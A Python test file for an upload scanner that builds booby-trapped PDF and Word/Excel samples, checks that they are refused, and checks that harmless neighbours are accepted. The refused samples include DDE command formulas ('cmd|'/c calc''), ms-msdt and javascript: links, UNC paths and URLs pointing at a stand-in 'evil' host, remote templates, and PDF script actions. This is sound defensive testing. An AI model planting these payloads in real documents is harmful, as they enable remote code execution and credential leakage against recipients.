"""Addresses wherever they stand, and what fetches, plays or starts: each refused for its true cause, and beside it an
ordinary neighbour that is received."""

import io
from collections.abc import Callable

import pytest

from nhv.records.uploads import contents, inspect
from nhv.rules.refusals import Refused
from tests.records.uploads import making
from tests.support.refusals import refuses

ASTRAY, PDF_FETCHES, PLAYS, BASE = "file_leads_astray", "pdf_fetches", "pdf_that_plays", "pdf_with_base_elsewhere"
LAUNCHES, FETCHES, FIELD, FORMULA = "pdf_with_programs", "file_fetches", "file_field_fetches", "file_formula_fetches"
CONNECTED, OFFICE_BASE, DRAWING = "file_with_connection", "file_with_base_elsewhere", "file_with_drawing_that_fetches"
LINK = b"/Annots [<< /Subtype /Link /A << /S /URI /URI (%s) >> >>]"
FORM = b"/Resources << /XObject << /A 4 0 R >> >>"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'


def pdf(*parts: bytes, **more: bytes) -> bytes:
    return making.pdf_with(*parts, **more)  # type: ignore[arg-type]


def in_word(xml: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)

    return making.word(change=change)


def based(base: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        said = f"<HyperlinkBase>{base}</HyperlinkBase></Properties>".encode()
        parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(b"</Properties>", said)

    return making.word(change=change)


def word_part(name: str, xml: bytes) -> bytes:
    return making.word(change=making.adding(name, xml))


def excel_part(name: str, xml: str) -> bytes:
    return making.excel(making.adding(name, xml.encode()))


def formula(text: str) -> bytes:
    return excel_part("xl/worksheets/sheet9.xml", f'<worksheet><c r="A1"><f>{text}</f></c></worksheet>')


# By what it is: the refused, its code, and the neighbour that is received.
PDFS: dict[str, tuple[bytes, str, bytes]] = {
    "base": (
        pdf(root=b"/URI << /Base (file:////evil/share/) >>", page=LINK % b"x"),
        BASE,
        pdf(root=b"/URI << /Base (https://example.org/) >>", page=LINK % b"x"),
    ),
    "base that is a script": (
        pdf(root=b"/URI << /Base (javascript:) >>", page=LINK % b"alert"),
        BASE,
        pdf(root=b"/URI << >>", page=LINK % b"sida.html"),
    ),
    "page of another file": (
        pdf(making.stream(b"", b"/Subtype /Form /Ref << /F (\\\\\\\\evil\\\\a.pdf) /Page 0 >>"), page=FORM),
        PDF_FETCHES,
        pdf(making.stream(b"", b"/Subtype /Form /BBox [0 0 1 1]"), page=FORM),
    ),
    "print picture": (
        pdf(making.stream(b"0", b"/Subtype /Image /OPI << /2.0 << /F (a) >> >>"), page=FORM),
        PDF_FETCHES,
        pdf(making.stream(b"0", b"/Subtype /Image /Width 1"), page=FORM),
    ),
    "profile": (
        pdf(root=b"/OutputIntents [<< /DestOutputProfileRef << /URLs [<< /FS /URL /F (http://evil/x) >>] >> >>]"),
        PDF_FETCHES,
        pdf(root=b"/OutputIntents [<< /S /GTS_PDFX /OutputConditionIdentifier (FOGRA39) >>]"),
    ),
    "address as a file": (
        pdf(root=b"/PieceInfo << /X << /FS /URL /UF (http://evil/x) >> >>"),
        PDF_FETCHES,
        pdf(root=b"/PieceInfo << /X << /URL (http://example.org/) >> >>"),
    ),
    "model": (
        pdf(
            making.stream(b"U3D", b"/Subtype /U3D /OnInstantiate 5 0 R"),
            making.stream(b"host.app.alert(1)"),
            page=b"/Annots [<< /Subtype /3D /3DA << /A /PO >> /3DD 4 0 R >>]",
        ),
        PLAYS,
        pdf(page=b"/Annots [<< /Subtype /Square /Contents (3D) >>]"),
    ),
    "sound at once": (
        pdf(root=b"/OpenAction << /S /Sound /Sound 4 0 R >>"),
        LAUNCHES,
        pdf(root=b"/OpenAction << /S /Named /N /FirstPage >>"),
    ),
    "script under the pointer": (
        pdf(page=b"/Annots [<< /Subtype /Widget /AA << /E << /S /JavaScript >> >> >>]"),
        LAUNCHES,
        pdf(page=b"/Annots [<< /Subtype /Widget /AA << /E << /S /Hide >> >> >>]"),
    ),
    "place without an end": (pdf(page=LINK % b"file:///x"), ASTRAY, pdf(page=LINK % b"file:///H:/plan.docx")),
    "program beside": (pdf(page=LINK % b"x.exe"), ASTRAY, pdf(page=LINK % b"bilaga.pdf")),
    "old kinds": (pdf(page=LINK % b"ftp://evil/x"), ASTRAY, pdf(page=LINK % b"HTTPS://example.org/x.exe")),
    "address in a seal": (
        pdf(root=b"/Perms << /SV << /URL (\\\\\\\\evil\\\\x) >> >>"),
        ASTRAY,
        pdf(root=b"/Perms << /SV << /URL (https://example.org) >> >>"),
    ),
    "picture in a form": (
        pdf(making.stream(b'<t><image src="http://evil/a"/></t>'), root=b"/AcroForm << /XFA [(t) 4 0 R] >>"),
        LAUNCHES,
        pdf(making.stream(b'<t xmlns="http://x/"><image/></t>'), root=b"/AcroForm << /XFA [(t) 4 0 R] >>"),
    ),
}

OFFICE: dict[str, tuple[str, bytes, str, bytes]] = {
    "shape": (
        "docx",
        in_word(f'<v:shape {VML} href="ms-msdt:/x"/>'),
        ASTRAY,
        in_word(f'<v:shape {VML} href="https://example.org/" style="position:absolute"/>'),
    ),
    "shape to a file": (
        "docx",
        in_word(f'<v:shape {VML} href="file://evil/x.exe"/>'),
        ASTRAY,
        in_word(f'<v:shape {VML} href="#del"/>'),
    ),
    "picture": (
        "docx",
        in_word(f'<v:imagedata {VML} src="http://evil/a.png"/>'),
        FETCHES,
        in_word(f'<v:imagedata {VML} title="\\\\server\\a.png"/>'),
    ),
    "base": ("docx", based("\\\\evil\\share\\"), OFFICE_BASE, based("https://example.org/")),
    "base otherwise": ("docx", based("search-ms:"), OFFICE_BASE, based("x")),
    "template by number": (
        "docx",
        making.word(change=making.relation("attachedTemplate", "%5C%5Cevil%5Ca.dotm")),
        "file_with_template_elsewhere",
        making.word(change=making.relation("attachedTemplate", "Normal.dotm")),
    ),
    "part of a document": (
        "docx",
        making.word(change=making.relation("subDocument", "a.docx")),
        "file_with_another_document",
        making.word(change=making.relation("hyperlink", "a.docx")),
    ),
    "field of another prefix": (
        "docx",
        in_word("<q:instrText>DDEAUTO c:</q:instrText>"),
        FIELD,
        in_word('<q:instrText>HYPERLINK "https://example.org/link/x"</q:instrText>'),
    ),
    "field parted by a comment": (
        "docx",
        in_word("<w:instrText>DDE<!-- -->AUTO c:</w:instrText>"),
        FIELD,
        in_word("<w:instrText>PAGE</w:instrText>"),
    ),
    "field as plain text": (
        "docx",
        in_word("<w:instrText><![CDATA[DDE]]> c:</w:instrText>"),
        FIELD,
        in_word("<w:instrText>NUMPAGES</w:instrText>"),
    ),
    "field in a field": (
        "docx",
        in_word('<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'),
        FIELD,
        in_word('<w:fldChar w:fldCharType="begin"/><w:instrText>IF</w:instrText><w:fldChar w:fldCharType="begin"/>'),
    ),
    "field by numbers": (
        "docx",
        in_word("<w:instrText>QUOTE 68 68 69</w:instrText>"),
        FIELD,
        in_word("<w:instrText>QUOTE dag</w:instrText>"),
    ),
    "part of another name": (
        "docx",
        word_part("word/part.dat", b"<a><w:instrText>DDE x</w:instrText></a>"),
        FIELD,
        word_part("word/part.dat", b"<a/>"),
    ),
    "letters": (
        "docx",
        word_part("word/a.xml", b'<w:connectString w:val="Data Source=\\\\evil\\a"/>'),
        "file_merges_from_elsewhere",
        word_part("word/a.xml", b'<w:connectString w:val="Data Source=C:\\a"/>'),
    ),
    "film": (
        "docx",
        word_part("word/a.xml", b'<p embeddedHtml="x"/>'),
        "file_with_web_film",
        word_part("word/a.xml", b"<p/>"),
    ),
    "add-in": (
        "docx",
        word_part("word/a.xml", b'<we:reference store="\\\\evil\\a"/>'),
        FETCHES,
        word_part("word/a.xml", b'<we:reference store="sv-SE"/>'),
    ),
    "unknown attribute": (
        "docx",
        word_part("customXml/a.xml", b'<a new="&#102;ile://evil/x"/>'),
        ASTRAY,
        word_part("customXml/a.xml", b'<a new="https://example.org/" descr="\\\\server\\a.png"/>'),
    ),
    "drawing": (
        "docx",
        word_part("word/media/a.svg", b'<svg><image href="http://evil/a"/></svg>'),
        DRAWING,
        word_part("word/media/a.svg", b'<svg><a href="#x"/><use href="#a"/></svg>'),
    ),
    "drawing with a script": (
        "docx",
        word_part("word/media/a.svg", b"<svg><script>1</script></svg>"),
        DRAWING,
        word_part("word/media/a.svg", b'<svg fill="url(#a)"/>'),
    ),
    "formula": (
        "xlsx",
        formula('HYPERLINK("\\\\"&amp;"evil\\x")'),
        ASTRAY,
        formula('HYPERLINK("https://example.org/"&amp;A2)'),
    ),
    "formula to a program": (
        "xlsx",
        formula('HYPERLINK("x.exe","Se")'),
        ASTRAY,
        formula('HYPERLINK("#Blad2!A1","Se")'),
    ),
    "formula that fetches": ("xlsx", formula('_xlfn.WEBSERVICE("http://evil/")'), FORMULA, formula("SUM(A1:A9)")),
    "formula to DDE": ("xlsx", formula("cmd|'/c calc'!A0"), FORMULA, formula('"a|b"&amp;A1')),
    "link to DDE": (
        "xlsx",
        excel_part("xl/externalLinks/a.xml", '<ddeLink ddeService="cmd" ddeTopic="/c"/>'),
        FORMULA,
        excel_part("xl/externalLinks/a.xml", "<externalBook/>"),
    ),
    "connection": (
        "xlsx",
        excel_part("xl/connections.xml", '<webPr url="http://evil/"/>'),
        CONNECTED,
        excel_part("xl/connections.xml", '<dbPr connection="Provider=x;Data Source=$Workbook$"/>'),
    ),
    "renewed": (
        "xlsx",
        excel_part("xl/connections.xml", '<connection id="1" refreshOnLoad="1"/>'),
        CONNECTED,
        excel_part("xl/connections.xml", '<connection id="1"/>'),
    ),
}


@pytest.mark.parametrize("what", PDFS)
def test_a_pdf_that_leads_away_fetches_or_plays_is_refused_and_its_neighbour_is_not(what: str) -> None:
    refused, code, neighbour = PDFS[what]
    _is_refused_but_not(refused, code, neighbour, "x.pdf")


@pytest.mark.parametrize("what", OFFICE)
def test_an_office_file_that_leads_away_or_fetches_is_refused_and_its_neighbour_is_not(what: str) -> None:
    end, refused, code, neighbour = OFFICE[what]
    _is_refused_but_not(refused, code, neighbour, f"x.{end}")


@pytest.mark.parametrize("write", [making.pdf_of, making.pdf_packed], ids=["plain", "packed"])
def test_it_is_found_also_in_what_a_pdf_has_packed(write: Callable[[list[bytes]], bytes]) -> None:
    with refuses(ASTRAY):
        inspect(
            io.BytesIO(making.pdf_with(page=b"/Annots [<< /A << /S /URI /U#52I <66696C653A2F2F78> >> >>]", of=write)),
            "x.pdf",
        )


def _is_refused_but_not(refused: bytes, code: str, neighbour: bytes, name: str) -> None:
    inspect(io.BytesIO(neighbour), name)
    with refuses(code):
        inspect(io.BytesIO(refused), name)


def a_sheet_of_links(number: int) -> bytes:
    cells = "".join(f'<c r="A{n}"><f>HYPERLINK("https://example.org/{n}")</f></c>' for n in range(number))
    return f"<worksheet><sheetData>{cells}</sheetData></worksheet>".encode()


def test_a_list_of_many_links_is_received_and_of_too_many_told_so() -> None:
    contents.check(io.BytesIO(a_sheet_of_links(12_000)))
    with pytest.raises(Refused, match="fler länkar än som kan läsas igenom"):
        contents.check(io.BytesIO(a_sheet_of_links(contents.MOST_SUSPECT + 1)))
